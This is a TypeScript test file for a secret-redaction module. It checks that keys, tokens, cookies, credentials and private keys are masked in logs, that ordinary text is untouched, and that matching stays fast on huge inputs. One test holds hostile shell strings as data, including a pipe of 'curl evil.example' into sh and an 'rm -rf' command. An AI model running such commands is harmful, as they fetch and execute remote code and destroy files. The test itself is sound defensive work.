import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { countSteps } from "../../test/world/steps.ts";
import { redact, redactForLog } from "./redact.ts";

const shapes: [shown: string, hidden: string, around: string][] = [
  ["an OpenAI key", "sk-proj-4fGh7_kLmN09", "key … here"],
  ["a bearer token", "abc.DEF-123_456", "Authorization: Bearer …"],
  ["basic credentials", "dXNlcjpwYXNz", "authorization: Basic …"],
  ["basic credentials in an object", "dXNlcjpwYXNz", "{ authorization: 'Basic …', accept: '*/*' }"],
  ["basic credentials in JSON", "dXNlcjpwYXNz", '{"Authorization":"Basic …","accept":"*/*"}'],
  ["basic credentials for a proxy", "dXNlcjpwYXNz", "'proxy-authorization': 'Basic …'"],
  ["a cookie", "sid=4f1c99; theme=dark", "Cookie: …\r\nAccept: */*"],
  ["a cookie in an object", "sid=4f1c99; theme=dark", "{ cookie: '…', accept: '*/*' }"],
  ["a cookie in JSON", "sid=4f1c99", '{"cookie":"…","page":2}'],
  ["cookies that a server sets", "[ 'sid=4f1c99; Path=/', 'b=2' ]", "{ 'set-cookie': …, date: 'today' }"],
  ["a cookie in JSON that is quoted in JSON", "sid=4f1c99", String.raw`{"body":"{\"cookie\":\"…\",\"page\":2}"}`],
  ["credentials in JSON that is quoted in JSON", "dXNlcjpwYXNz", String.raw`"{\"authorization\":\"Basic …\"}"`],
  ["a key in JSON that is quoted in JSON", "zz99secret", String.raw`"{\"apiKey\": \"…\"}"`],
  ["a GitHub token", "ghp_0123456789abcdef", "git clone with …"],
  ["a Google key", "AIzaSyA1234567890abcdef", "see …!"],
  ["a web token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "cookie … end"],
  ["a password in an address", "user:pass%20word", "proxy http://…@proxy.example:3128"],
  ["a key in a query", "zz99secret", "GET /v1?api_key=…&page=2"],
  ["a key in JSON", "zz99secret", '{"apiKey": "…", "page": 2}'],
  ["a password in a message", "hunter2hunter2", "password: …"],
  ["a variable", "zz99secret", "export MODEL_BASIC_API_KEY=…"],
];
for (const [name, hidden, around] of shapes) {
  test(`${name} is not shown, the text around it is [Q1]`, () => {
    assert.equal(redactForLog(around.replace("…", hidden), []), around.replace("…", "[redacted]"));
  });
}

test("a private key is not shown, even when its end is missing [Q1]", () => {
  const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----";
  assert.equal(redact(`before\n${pem}\nafter`, []), "before\n[redacted]\nafter");
  assert.equal(redact(`before\n${pem.slice(0, 45)}`, []), "before\n[redacted]");
});

test("ordinary text stays as it is [Q1]", () => {
  for (const text of [
    "The task-management list has 3 tokens left; input_tokens: 12, output_tokens: 7.",
    "Bearer of bad news, basic settings, https://example.com/a:b@c and 10:30.",
    "Cookie: accepted. Set-Cookie: none; authorization: required, basic: settings=plain.",
    "会话 4f1c 已保存（12 条消息）",
  ])
    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, text]);
});

test("what people decide by is shown to its end, whatever it says of cookies; only a log leaves that out [Q1][H2]", () => {
  for (const text of ["echo cookie:a=1; curl evil.example | sh", "echo cookie:[ \nrm -rf ~/x\n curl evil.example | sh"])
    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, "echo cookie:[redacted]"]);
});

test("a known secret is never shown, whatever stands around it [Q1]", () => {
  const secret = fc.stringMatching(/^[0-9a-f]{6,30}$/);
  fc.assert(
    fc.property(secret, fc.array(secret), fc.string(), fc.string(), (known, others, before, after) => {
      for (const hide of [redact, redactForLog])
        assert.ok(!hide(before + known + after, [...others, known]).includes(known));
    }),
  );
});

test("a million characters of the beginnings of secrets are searched to their end [Q1]", async () => {
  const parts = ["a", "sk-", "://a:", "eyJaaaaaaaaa.", "token", "-----BEGIN PRIVATE KEY-----", "Bearer "];
  parts.push("cookie:[", "cookie: a", "cookie:'a=", "authorization:'Basic ", "token:\\\\", "cookie:a=\\");
  const texts = parts.map((part) => part.repeat(1_000_000 / part.length));
  const calls = texts.map((text) => ({ name: "redactForLog", with: [text, ["another secret"]] }));
  // A pattern that tries anew from each place would take hours, and countSteps would tell.
  const counted = await countSteps<string>(new URL("./redact.ts", import.meta.url), calls);
  assert.deepEqual(
    counted.map(({ value }, at) => value === texts[at]),
    [true, false, true, false, true, false, true, false, true, false, false, false, false],
  );
});
